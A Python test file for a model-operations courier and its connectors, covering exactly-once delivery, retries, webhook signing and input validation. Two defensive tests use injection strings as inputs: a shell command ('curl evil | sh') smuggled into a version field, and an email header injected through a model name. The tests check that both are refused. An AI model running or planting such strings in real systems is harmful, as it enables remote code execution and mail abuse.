"""The courier and its connectors, against servers that lose answers: once is once."""

from __future__ import annotations

import datetime as dt
import json
import socket
from concurrent.futures import Executor, Future
from typing import TYPE_CHECKING, Any

import pytest
from targets import FakeAirflow, FakeCluster, FakeMlflow, MailServer, Receiver

from stream.connectors.airflow import Airflow
from stream.connectors.base import PassingError, RefusedError
from stream.connectors.client import Client
from stream.connectors.courier import LATEST, Courier
from stream.connectors.datadog import Datadog
from stream.connectors.email import Email
from stream.connectors.kubernetes import Kubernetes
from stream.connectors.mlflow import Mlflow
from stream.connectors.slack import Slack
from stream.connectors.webhook import Webhook, key_of, signature
from stream.workers.courier import _step

if TYPE_CHECKING:
    from collections.abc import Callable

NOW = 1_790_000_000.0
POLL = 30.0
SIGNED_WITH = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
"""Of the specification's own example."""


class AtOnce(Executor):
    """Does what it is given at once."""

    def submit(self, fn: Callable[..., Any], /, *args: Any, **kwargs: Any) -> Future[Any]:
        """Done already."""
        future: Future[Any] = Future()
        try:
            future.set_result(fn(*args, **kwargs))
        except Exception as error:  # noqa: BLE001 - it is the future's
            future.set_exception(error)
        return future


def _rfc(seconds: float) -> str:
    return dt.datetime.fromtimestamp(seconds, dt.UTC).isoformat()


def _seconds(text: str) -> float:
    return dt.datetime.fromisoformat(text).timestamp()


def step(number: int = 1, state: str = "requested", **changes: Any) -> dict[str, Any]:
    """A step of an action as it is in the topic."""
    return {
        "id": f"{number:032x}",
        "event_id": f"{number:030x}{len(state):02x}",
        "action": "retrain",
        "state": state,
        "model": "click",
        "version": "7",
        "target_version": None,
        "trigger": "drift",
        "cause": "c",
        "reason": "price <moved>",
        "complete_by": _rfc(NOW + 3600),
        "event_time": _rfc(NOW),
        "dry_run": False,
        "data": {"from": _rfc(NOW - 86_400), "until": _rfc(NOW), "exclude": []},
        "outcome": None,
        "via": ["train"],
        **changes,
    }


class Desk:
    """A courier with what it said; time goes on by `work`."""

    def __init__(self, **connectors: Any) -> None:
        self.said: list[dict[str, Any]] = []
        self.counted: list[tuple[str, str]] = []
        self.connectors = connectors
        self.now = NOW
        self.courier = self.anew()

    def anew(self) -> Courier:
        """The courier after a crash: it knows nothing."""
        return Courier(
            self.connectors, self.said.append, _seconds, AtOnce(), lambda *counted: self.counted.append(counted)
        )

    def work(self, rounds: int = 40) -> None:
        """Try what is due, round after round."""
        for _ in range(rounds):
            self.courier.run(self.now)
            self.courier.run(self.now)
            due = self.courier.next_due()
            if due is None:
                return
            self.now = max(self.now, due)

    def kinds(self) -> list[str]:
        """What was said, each once: the reader of the topic drops what it knows."""
        return [one["kind"] for one in {one["id"]: one for one in self.said}.values()]


def airflow(server: FakeAirflow) -> Airflow:
    """A connector to it."""
    return Airflow(Client(server.url, 10.0), server.api, "retrain_{model}", POLL)


@pytest.mark.parametrize("api", ["v1", "v2"])
def test_one_run_for_each_action_whatever_is_lost(api: str) -> None:
    """A hundred actions, 30 % of answers lost after commit, a tenth refused first, a crash after every ten steps."""
    with FakeAirflow(api, drop=0.3, busy=0.1) as server:
        desk = Desk(train=airflow(server))
        for number in range(100):
            desk.courier.take(step(number), number, desk.now)
            if number % 10 == 9:
                desk.courier.run(desk.now)
                desk.courier = desk.anew()  # killed: everything since the last commit is read again
                for again in range(number + 1):
                    desk.courier.take(step(again), again, desk.now)
        desk.work(30)
        server.succeed()
        desk.work(60)
    assert sorted(server.made) == sorted({f"dg-{number:032x}" for number in range(100)})
    assert desk.kinds().count("dispatched") == desk.kinds().count("done") == 100
    assert desk.courier.settled(100) == 100
    assert ("train", "retried") in desk.counted


def test_a_run_that_fails_is_told() -> None:
    """With the run's name; nothing is tried again."""
    with FakeAirflow() as server:
        desk = Desk(train=airflow(server))
        desk.courier.take(step(), 0, desk.now)
        desk.work(2)
        server.succeed("failed")
        desk.work()
    assert desk.kinds() == ["dispatched", "fail"]
    assert "run dg-" in desk.said[-1]["reason"]
    assert len(server.made) == 1


def test_another_run_in_the_way_is_no_success() -> None:
    """409 for a run that is not ours: refused in words, not taken for done."""
    with FakeAirflow() as server:
        server.runs["retrain_click", f"dg-{1:032x}"] = {"conf": {"driftgauge_action": "somebody's"}, "state": "success"}
        desk = Desk(train=airflow(server))
        desk.courier.take(step(), 0, desk.now)
        desk.work()
    assert desk.kinds() == ["fail"]
    assert "stands in the way" in desk.said[0]["reason"]


def test_what_the_dag_is_told() -> None:
    """The action's id, and everything that the training needs: period, what to leave out, why."""
    with FakeAirflow() as server:
        airflow(server).send(step())
        (run,) = server.runs.values()
    assert run["logical_date"] is None
    assert run["conf"]["driftgauge_action"] == f"{1:032x}"
    assert run["conf"]["data"]["from"] == _rfc(NOW - 86_400)


def test_a_slow_target_holds_up_no_other() -> None:
    """What fails waits longer each time, up to five minutes; the other connector is served at once."""
    with Receiver() as good:
        gone = Client("http://127.0.0.1:9", 0.2)
        desk = Desk(
            train=Airflow(gone, "v2", "d", POLL), hook=Webhook(Client(good.url, 5.0), None, frozenset({"requested"}))
        )
        desk.courier.take(step(via=["train"]), 0, desk.now)
        desk.courier.take(step(2, via=["hook"]), 1, desk.now)
        desk.courier.run(desk.now)
        desk.courier.run(desk.now)
        assert len(good.requests) == 1
        assert desk.courier.settled(2) == 0
        began = desk.now
        waits = []
        for _ in range(12):
            before = desk.now
            desk.work(1)
            waits.append(desk.now - before)
    assert waits[:4] == [1.0, 2.0, 4.0, 8.0]
    assert max(waits) == 300.0
    assert desk.courier.held_up(desk.now)["train"] == desk.now - began


def test_what_is_over_or_too_late_is_not_sent() -> None:
    """Cancelled before it could be sent, past its deadline by a day, or only tried: nobody hears of it."""
    with FakeAirflow() as server:
        desk = Desk(train=airflow(server))
        desk.courier.take(step(1), 0, desk.now)
        desk.courier.take(step(1, "cancelled"), 1, desk.now)
        desk.courier.take(step(2, complete_by=_rfc(NOW - LATEST - 1)), 2, desk.now)
        desk.courier.take(step(3, dry_run=True), 3, desk.now)
        desk.courier.take(step(4, "awaiting_approval"), 4, desk.now)
        desk.work()
    assert server.requests == []
    assert desk.counted == [("train", "expired")]
    assert desk.courier.settled(5) == 5


def test_who_does_not_answer_in_time_is_told_as_such() -> None:
    """Not as a line that was cut: it is we who cut it."""
    with socket.create_server(("127.0.0.1", 0)) as silent:
        client = Client(f"http://127.0.0.1:{silent.getsockname()[1]}", 0.2)
        with pytest.raises(PassingError, match=r"no answer within 0\.2 s"):
            client.ask("GET", "/")


def test_a_webhook_is_signed_as_the_standard_says() -> None:
    """The specification's own example; and what is posted verifies, once for each step by its id."""
    body = b'{"test": 2432232314}'
    known = signature(key_of(SIGNED_WITH), "msg_p5jXN8AQM9LWM0D4loKWxJek", 1614265330, body)
    assert known == "v1,g0hM9SsE+OTPJTGt/tmIKtSyZlE3uFJELVlNIOLJ1OE="
    with Receiver(drop=0.5, seed=3) as server:
        hook = Webhook(Client(server.url, 5.0), key_of(SIGNED_WITH), frozenset({"requested"}), now=lambda: NOW)
        desk = Desk(train=hook)
        desk.courier.take(step(), 0, desk.now)
        desk.work()
    assert desk.kinds() == ["dispatched"]
    assert {headers["webhook-id"] for _, _, headers, _ in server.requests} == {step()["event_id"]}
    _, _, headers, sent = server.requests[-1]
    assert headers["webhook-signature"] == signature(key_of(SIGNED_WITH), step()["event_id"], int(NOW), sent)
    assert json.loads(sent)["data"]["id"] == step()["id"]


def test_an_alias_is_moved_back_once() -> None:
    """Whatever answers are lost: at the end it is at the target, and the action is done."""
    rollback = {"action": "rollback", "target_version": "6"}
    with FakeMlflow({("click", "champion"): "7"}, drop=0.3) as server:
        desk = Desk(train=Mlflow(Client(server.url, 5.0), "{model}", "champion"))
        desk.courier.take(step(**rollback), 0, desk.now)
        desk.work()
        assert server.aliases == {("click", "champion"): "6"}
    assert desk.kinds() == ["done"]
    assert desk.said[0]["outcome"]["version"] == "6"


def test_a_registry_does_not_train() -> None:
    """Nor can it go back to a version that nobody knows."""
    registry = Mlflow(Client("http://127.0.0.1:9", 0.2), "{model}", "champion")
    for changes in ({}, {"action": "rollback"}):
        with pytest.raises(RefusedError):
            registry.send(step(**changes))


def test_slack_is_told_in_plain_words() -> None:
    """Steps that people care about, with markup escaped and the command that approves."""
    with Receiver() as server:
        states = frozenset({"awaiting_approval", "completed"})
        desk = Desk(train=Slack(Client(server.url, 5.0), states))
        for number, state in enumerate(("awaiting_approval", "requested", "completed")):
            desk.courier.take(step(1, state), number, desk.now)
            desk.work()
    texts = [json.loads(body)["text"] for *_, body in server.requests]
    assert len(texts) == 2
    assert "price &lt;moved&gt;" in texts[0]
    assert "driftgauge action approve" in texts[0]
    assert desk.said == []


@pytest.mark.parametrize(("status", "told"), [(401, "refused"), (404, "refused"), (429, "retried"), (500, "retried")])
def test_what_is_refused_is_told_apart_from_what_passes(status: int, told: str) -> None:
    """4xx ends it with a failure; 429 and 5xx are tried again."""
    with Receiver() as server:
        server.status = status
        desk = Desk(train=Webhook(Client(server.url, 5.0), None, frozenset({"requested"})))
        desk.courier.take(step(), 0, desk.now)
        desk.courier.run(desk.now)
        desk.courier.run(desk.now)
    assert desk.counted == [("train", told)]
    assert [one["kind"] for one in desk.said] == (["fail"] if told == "refused" else [])


JOB: dict[str, Any] = {
    "apiVersion": "batch/v1",
    "kind": "Job",
    "spec": {
        "ttlSecondsAfterFinished": 604_800,
        "template": {
            "spec": {
                "restartPolicy": "Never",
                "containers": [{"name": "t", "image": "train", "args": ["--model={model}"]}],
            }
        },
    },
}
WORKFLOW: dict[str, Any] = {
    "apiVersion": "argoproj.io/v1alpha1",
    "kind": "Workflow",
    "spec": {"entrypoint": "t", "templates": [{"name": "t", "container": {"image": "train"}}]},
}


@pytest.mark.parametrize("manifest", [JOB, WORKFLOW], ids=["job", "workflow"])
def test_one_object_for_each_action_in_the_cluster(manifest: dict[str, Any]) -> None:
    """30 % of answers lost after commit: twenty actions are twenty objects, each told what it is for; one fails."""
    with FakeCluster(drop=0.3) as cluster:
        desk = Desk(train=Kubernetes(Client(cluster.url, 5.0), "ml", manifest, POLL))
        for number in range(20):
            desk.courier.take(step(number << 80), number, desk.now)
        desk.work(30)
        assert len(cluster.made) == len(set(cluster.made)) == 20
        done = {"conditions": [{"type": "Complete", "status": "True"}], "phase": "Succeeded"}
        failed = {"conditions": [{"type": "Failed", "status": "True", "message": "OOM"}], "phase": "Failed"}
        for number, name in enumerate(cluster.made):
            cluster.objects[name]["status"] = failed if number == 7 else done
        desk.work(60)
        made = next(iter(cluster.objects.values()))
    assert (desk.kinds().count("done"), desk.kinds().count("fail")) == (19, 1)
    assert "driftgauge.io/action" in made["metadata"]["labels"]
    assert "--model=click" in json.dumps(made) or manifest is WORKFLOW
    assert "DRIFTGAUGE_ACTION" in json.dumps(made)


def test_an_object_of_that_name_that_is_not_ours_is_no_success() -> None:
    """A label tells: refused in words."""
    with FakeCluster() as cluster:
        target = Kubernetes(Client(cluster.url, 5.0), "ml", JOB, POLL)
        cluster.objects[f"dg-{step()['id'][:20]}"] = {"metadata": {"labels": {}}}
        with pytest.raises(RefusedError, match="another Job"):
            target.send(step())


def test_datadog_is_told_once_a_step() -> None:
    """With tags to find it by; steps of one action are grouped."""
    with Receiver() as server:
        target = Datadog(Client(server.url, 5.0, {"DD-API-KEY": "k"}), frozenset({"failed"}), ("team:risk",))
        desk = Desk(train=target)
        desk.courier.take(step(1, "failed"), 0, desk.now)
        desk.work()
    ((_, path, headers, body),) = server.requests
    assert (path, headers["Dd-Api-Key" if "Dd-Api-Key" in headers else "DD-API-KEY"]) == ("/api/v1/events", "k")
    event = json.loads(body)
    assert (event["alert_type"], event["aggregation_key"]) == ("error", step()["id"])
    assert {"team:risk", "model:click", "state:failed"} <= set(event["tags"])


def test_a_mail_says_what_to_do() -> None:
    """The same Message-ID for the same step; no header can be smuggled in by a name."""
    with MailServer() as server:
        states = frozenset({"awaiting_approval"})
        mail = Email("127.0.0.1", server.port, "a@b.c", ("d@e.f",), states, starttls=False)
        mail.send(step(1, "awaiting_approval", model="click\r\nBcc: x@y.z"))
    (text,) = server.messages
    assert f"Message-ID: <{step(1, 'awaiting_approval')['event_id']}@driftgauge>" in text
    assert "driftgauge action approve" in text
    assert "\nBcc:" not in text


@pytest.mark.parametrize(("answer", "error"), [("451 later", PassingError), ("550 never", RefusedError)])
def test_a_mail_server_that_says_no(answer: str, error: type[Exception]) -> None:
    """4xx passes, 5xx does not."""
    with MailServer(answer) as server, pytest.raises(error):
        Email("127.0.0.1", server.port, "a@b.c", ("d@e.f",), frozenset(), starttls=False).send(step())


def test_what_a_message_names_does_not_reach_a_shell() -> None:
    """A version with more in it than a plain word is refused where a manifest names it."""
    manifest = {"apiVersion": "batch/v1", "kind": "Job", "spec": {"command": ["sh", "-c", "train --version {version}"]}}
    target = Kubernetes(Client("http://127.0.0.1:1", 5.0), "ml", manifest, POLL)
    assert "--version 7.1-rc_2" in json.dumps(target.object_of(step(version="7.1-rc_2")))
    with pytest.raises(RefusedError, match="DRIFTGAUGE_ACTION"):
        target.object_of(step(version="1; curl evil | sh"))


@pytest.mark.parametrize(
    "value",
    [b"[" * 100_000, b"{", b"5", b"\xff", b'{"id": 1}', b"", None],
    ids=["deep", "cut", "number", "bytes", "types", "empty", "none"],
)
def test_a_message_that_is_no_step_is_passed_over(value: bytes | None, caplog: pytest.LogCaptureFixture) -> None:
    """And said."""
    assert _step(value) is None
    assert "is no step" in caplog.messages[-1]


@pytest.mark.parametrize("changed", [{"complete_by": "tomorrow"}, {"via": 5}, {"dry_run": "no"}])
def test_a_step_with_other_types_is_passed_over(changed: dict[str, Any]) -> None:
    """A good one is read with all that it has."""
    good = {**step(), "complete_by": "2026-11-27T18:00:00Z", "dry_run": False, "via": ["train"]}
    assert _step(json.dumps(good).encode()) == good
    assert _step(json.dumps({**good, **changed}).encode()) is None
